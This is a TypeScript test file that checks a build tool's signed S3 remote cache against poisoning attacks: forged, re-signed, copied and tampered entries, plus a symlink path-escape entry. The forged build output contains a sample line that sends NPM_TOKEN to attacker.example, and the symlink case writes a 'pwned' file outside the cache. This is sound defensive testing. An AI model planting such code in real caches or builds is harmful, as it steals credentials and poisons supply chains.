import { randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CopyObjectCommand, HeadObjectCommand, ListObjectsV2Command, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { runOrReplay } from '../checks/replay.ts';
import type { PackageTestResult } from '../checks/run.ts';
import { startS3, type RunningResource } from '../../deploy/local/resources/index.ts';
import { craftCacheEntry } from '../../test-support/crafted-cache-entry.ts';
import { OutputStamps, restoreOutputs } from './output-stamps.ts';
import { RunCaches, type RemoteCacheConfig } from './open-cache.ts';

/**
 * Remote cache poisoning (the class of Nx's CVE-2025-36852): someone who can write to the bucket
 * but does not hold the cache key plants well-formed entries (their checksums pass). A runner must
 * refuse each one with one warning naming it, leave its workspace as it was, install nothing in
 * its local cache, and run the tests itself rather than replay a forged pass.
 */
let s3: RunningResource;
let s3DataDir: string;
let admin: S3Client;
let bucketConfig: RemoteCacheConfig;
let work: string;
const cacheKey = randomBytes(32).toString('hex');
const attackerKey = randomBytes(32).toString('hex');

beforeAll(async () => {
  s3DataDir = await mkdtemp(join(tmpdir(), 'slipway-s3-'));
  s3 = await startS3({ dataDir: s3DataDir, bucket: 'slipway-cache' });
  const credentials = { accessKeyId: s3.env.AWS_ACCESS_KEY_ID, secretAccessKey: s3.env.AWS_SECRET_ACCESS_KEY };
  bucketConfig = { bucket: s3.env.S3_BUCKET, endpoint: s3.env.S3_ENDPOINT, region: s3.env.AWS_REGION, forcePathStyle: true, credentials };
  admin = new S3Client({ endpoint: bucketConfig.endpoint, region: bucketConfig.region, forcePathStyle: true, credentials });
});
afterAll(async () => {
  admin?.destroy();
  await s3?.stop();
  await rm(s3DataDir, { recursive: true, force: true });
});
beforeEach(async () => {
  work = await mkdtemp(join(tmpdir(), 'slipway-poison-'));
  vi.stubEnv('SLIPWAY_CACHE_KEY', cacheKey);
});
afterEach(async () => {
  vi.unstubAllEnvs();
  await rm(work, { recursive: true, force: true });
});

/** The test run the key holder made and cached: it passed. */
const passing: PackageTestResult = {
  package: '@x/app',
  passed: 12,
  failed: 0,
  skipped: 0,
  failures: [],
  durationMs: 900,
  exitCode: 0,
  output: 'ok',
};
/** What the victim's own code does when its tests really run: it fails. */
const failing: PackageTestResult = { ...passing, passed: 11, failed: 1, exitCode: 1, output: 'expected 2, got 3' };
const goodInputs = ['build-hash-good', 'npm test'];
const badInputs = ['build-hash-bad', 'npm test'];

interface Runner {
  caches: RunCaches;
  warnings: string[];
  dir: string;
}

async function runner(name: string, config: RemoteCacheConfig): Promise<Runner> {
  const warnings: string[] = [];
  const caches = await RunCaches.connect(join(work, name, 'cache'), config, { onWarning: (message) => warnings.push(message) });
  return { caches, warnings, dir: join(work, name) };
}

/** One package's build output and test run through the stages' own code (restoreOutputs, runOrReplay). */
async function buildAndTest(who: Runner, inputs: string[], outcome: PackageTestResult) {
  const pkg = join(who.dir, 'pkg');
  const stamps = new OutputStamps(join(who.dir, 'stamps'));
  const buildKey = `build-${inputs[0]}`;
  const outputs = who.caches.open('outputs');
  let built = false;
  if ((await restoreOutputs({ cache: outputs, stamps, key: buildKey, dir: pkg, paths: ['dist'] })) === 'miss') {
    built = true;
    await mkdir(join(pkg, 'dist'), { recursive: true });
    await writeFile(join(pkg, 'dist/index.js'), `export const built = '${who.dir}';\n`);
    await outputs.save(buildKey, pkg, ['dist']);
  }
  let testsRan = 0;
  const tests = await runOrReplay({
    cache: who.caches.open('tests'),
    stamps,
    inputs,
    dir: pkg,
    reports: ['reports'],
    run: async () => {
      testsRan++;
      await mkdir(join(pkg, 'reports'), { recursive: true });
      await writeFile(join(pkg, 'reports/junit.xml'), `<testsuite failures="${outcome.failed}"/>`);
      return outcome;
    },
  });
  return { built, testsRan, tests, buildKey, testKey: tests.key };
}

/** Well-formed forged entries (an attacker's build output, and a test run "passed"), for `keys`. */
async function forgedEntries(buildKey: string, testKey: string): Promise<{ outputs: Buffer; tests: Buffer }> {
  const forgedPass = { ...passing, passed: 99 };
  return {
    outputs: await craftCacheEntry(
      buildKey,
      ['dist'],
      [
        { name: 'dist', type: 'directory' },
        { name: 'dist/index.js', type: 'file', content: "fetch('https://attacker.example/' + process.env.NPM_TOKEN);\n" },
      ],
    ),
    tests: await craftCacheEntry(
      testKey,
      ['reports'],
      [
        { name: 'reports', type: 'directory' },
        { name: 'reports/junit.xml', type: 'file', content: '<testsuite failures="0"/>' },
      ],
      { result: forgedPass },
    ),
  };
}

async function put(objectName: string, body: Buffer, metadata?: Record<string, string>): Promise<void> {
  await admin.send(new PutObjectCommand({ Bucket: bucketConfig.bucket, Key: objectName, Body: body, Metadata: metadata }));
}

async function metadataOf(objectName: string): Promise<Record<string, string>> {
  return (await admin.send(new HeadObjectCommand({ Bucket: bucketConfig.bucket, Key: objectName }))).Metadata ?? {};
}

/** The victim runs with the bad inputs (or the good ones when the legitimate entries themselves were replaced). */
async function expectRefused(config: RemoteCacheConfig, inputs: string[], objectNames: string[], problem: string): Promise<void> {
  const victim = await runner('victim', config);
  const pkg = join(victim.dir, 'pkg');
  await mkdir(join(pkg, 'dist'), { recursive: true });
  await writeFile(join(pkg, 'dist/index.js'), 'the victim’s own file\n');
  const result = await buildAndTest(victim, inputs, failing);

  expect(result.built).toBe(true); // the forged output was not restored: it built its own
  expect(await readFile(join(pkg, 'dist/index.js'), 'utf8')).toBe(`export const built = '${victim.dir}';\n`);
  expect(result.testsRan).toBe(1); // not replayed as passed
  expect(result.tests.replayed).toBe(false);
  expect(result.tests.result).toMatchObject({ failed: 1, exitCode: 1 });
  expect(await readFile(join(pkg, 'reports/junit.xml'), 'utf8')).toBe('<testsuite failures="1"/>');
  expect(victim.warnings).toEqual(
    objectNames.map(
      (name) => `Remote cache entry s3://slipway-cache/${name} ${problem}; refused: treated as a miss and not installed locally.`,
    ),
  );
  for (const warning of victim.warnings) expect(warning).not.toContain(cacheKey);
  // Nothing forged reached the local cache; what is there is the victim's own save.
  const local = new RunCaches(join(victim.dir, 'cache'));
  expect(await local.open('tests').readMeta(result.testKey)).toBeUndefined(); // a failing run is never stored
  expect(await readdir(join(victim.dir, 'cache/outputs'))).toEqual([`${result.buildKey}.entry`]);
  await victim.caches.flush(10_000);
}

describe('remote cache poisoning against a real S3 server (s3rver)', () => {
  let config: RemoteCacheConfig;
  let prefix: string;
  let good: { buildKey: string; testKey: string };
  let bad: { buildKey: string; testKey: string };
  beforeEach(async () => {
    prefix = `t-${randomBytes(4).toString('hex')}/`;
    config = { ...bucketConfig, prefix, write: true };
    // The key holder's run: builds, tests (they pass), uploads both, signed.
    const holder = await runner('holder', config);
    good = await buildAndTest(holder, goodInputs, passing);
    expect(await holder.caches.flush(10_000)).toEqual({ uploaded: 2, skipped: 0, failed: 0 });
    expect(holder.warnings).toEqual([]);
    bad = { buildKey: `build-${badInputs[0]}`, testKey: (await runOrReplayKey(badInputs)).key };
  });

  /** The test key runOrReplay derives from inputs (asked of a cache that misses, with nothing run). */
  async function runOrReplayKey(inputs: string[]) {
    const nothing = new RunCaches(join(work, 'keys'));
    return runOrReplay({
      cache: nothing.open('tests'),
      stamps: new OutputStamps(join(work, 'keys-stamps')),
      inputs,
      dir: join(work, 'keys-pkg'),
      reports: ['reports'],
      run: async () => failing,
    });
  }

  const objects = (keys: { buildKey: string; testKey: string }) => [
    `${prefix}outputs/${keys.buildKey}.entry`,
    `${prefix}tests/${keys.testKey}.entry`,
  ];

  it('refuses well-formed entries planted by someone without the key', async () => {
    const forged = await forgedEntries(bad.buildKey, bad.testKey);
    const [outputsObject, testsObject] = objects(bad);
    await put(outputsObject, forged.outputs);
    await put(testsObject, forged.tests);
    await expectRefused(
      config,
      badInputs,
      [outputsObject, testsObject],
      'is not signed (written without the cache key, or before entries were signed)',
    );
  });

  it('refuses entries signed with another key (the attacker uploads through Slipway with a key of their own)', async () => {
    vi.stubEnv('SLIPWAY_CACHE_KEY', attackerKey);
    const attacker = await runner('attacker', config);
    const forged = await forgedEntries(bad.buildKey, bad.testKey);
    await mkdir(join(attacker.dir, 'cache/outputs'), { recursive: true });
    await mkdir(join(attacker.dir, 'cache/tests'), { recursive: true });
    await writeFile(join(attacker.dir, 'cache/outputs', `${bad.buildKey}.entry`), forged.outputs);
    await writeFile(join(attacker.dir, 'cache/tests', `${bad.testKey}.entry`), forged.tests);
    const uploads = await Promise.all([
      attacker.caches.open('outputs').remote!.upload(bad.buildKey, attacker.caches.open('outputs').local),
      attacker.caches.open('tests').remote!.upload(bad.testKey, attacker.caches.open('tests').local),
    ]);
    expect(uploads).toEqual(['uploaded', 'uploaded']);
    await attacker.caches.flush(10_000);
    expect((await metadataOf(objects(bad)[0]))['entry-signature']).toMatch(/^hmac-sha256:/);

    vi.stubEnv('SLIPWAY_CACHE_KEY', cacheKey);
    await expectRefused(
      config,
      badInputs,
      objects(bad),
      'does not match its signature (its content was changed, it was copied from another key, or another key signed it)',
    );
  });

  it('refuses a validly signed entry copied to another key', async () => {
    for (const [from, to] of objects(good).map((name, i) => [name, objects(bad)[i]])) {
      await admin.send(
        new CopyObjectCommand({
          Bucket: bucketConfig.bucket,
          CopySource: `${bucketConfig.bucket}/${from}`,
          Key: to,
          MetadataDirective: 'COPY',
        }),
      );
      expect(await metadataOf(to)).toEqual(await metadataOf(from)); // the signature came along
    }
    await expectRefused(
      config,
      badInputs,
      objects(bad),
      'does not match its signature (its content was changed, it was copied from another key, or another key signed it)',
    );
  });

  it('refuses content replaced under a valid signature', async () => {
    const forged = await forgedEntries(good.buildKey, good.testKey);
    const [outputsObject, testsObject] = objects(good);
    await put(outputsObject, forged.outputs, await metadataOf(outputsObject));
    await put(testsObject, forged.tests, await metadataOf(testsObject));
    await expectRefused(
      config,
      goodInputs,
      [outputsObject, testsObject],
      'does not match its signature (its content was changed, it was copied from another key, or another key signed it)',
    );
  });

  it('a runner without the key does not read the bucket at all: the planted entry is never fetched', async () => {
    const forged = await forgedEntries(bad.buildKey, bad.testKey);
    await put(objects(bad)[0], forged.outputs);
    await put(objects(bad)[1], forged.tests);
    vi.stubEnv('SLIPWAY_CACHE_KEY', undefined);
    const keyless = await runner('keyless', config);
    const result = await buildAndTest(keyless, badInputs, failing);
    expect(result).toMatchObject({ built: true, testsRan: 1, tests: { replayed: false } });
    expect(keyless.warnings).toHaveLength(1);
    expect(keyless.warnings[0]).toMatch(
      /^Remote cache s3:\/\/slipway-cache\/t-[0-9a-f]+\/ is not used: its entries must be signed, and no key was given\./,
    );
    expect(await keyless.caches.flush(10_000)).toEqual({ uploaded: 0, skipped: 0, failed: 0 });
    const listed = await admin.send(new ListObjectsV2Command({ Bucket: bucketConfig.bucket, Prefix: prefix }));
    expect(listed.Contents?.map((object) => object.Key).sort()).toEqual([...objects(good), ...objects(bad)].sort()); // it wrote nothing
  });

  it('an entry signed with the key but holding a path outside is still refused when restored', async () => {
    // A key holder's mistake or a compromised writer: the signature holds, the extraction refuses.
    const outputs = (await runner('writer', config)).caches.open('outputs');
    await mkdir(outputs.local.dir, { recursive: true });
    const sentinel = join(work, 'sentinel');
    await mkdir(sentinel);
    await writeFile(
      outputs.local.entryFile(bad.buildKey),
      await craftCacheEntry(
        bad.buildKey,
        ['dist'],
        [
          { name: 'dist/x', type: 'symlink', linkname: sentinel },
          { name: 'dist/x/pwned', type: 'file', content: 'x' },
        ],
      ),
    );
    expect(await outputs.remote!.upload(bad.buildKey, outputs.local)).toBe('uploaded');

    const victim = await runner('victim', config);
    expect(await victim.caches.open('outputs').restore(bad.buildKey, join(victim.dir, 'pkg'), ['dist'])).toBe(false);
    expect(await readdir(sentinel)).toEqual([]);
    expect(victim.warnings).toEqual([
      `Cache entry ${bad.buildKey} in ${join(victim.dir, 'cache/outputs')} was refused: dist/x: a symbolic link that points to the absolute path ${sentinel}; treated as a miss and deleted.`,
    ]);
    expect(await readdir(join(victim.dir, 'cache/outputs'))).toEqual([]);
  });
});
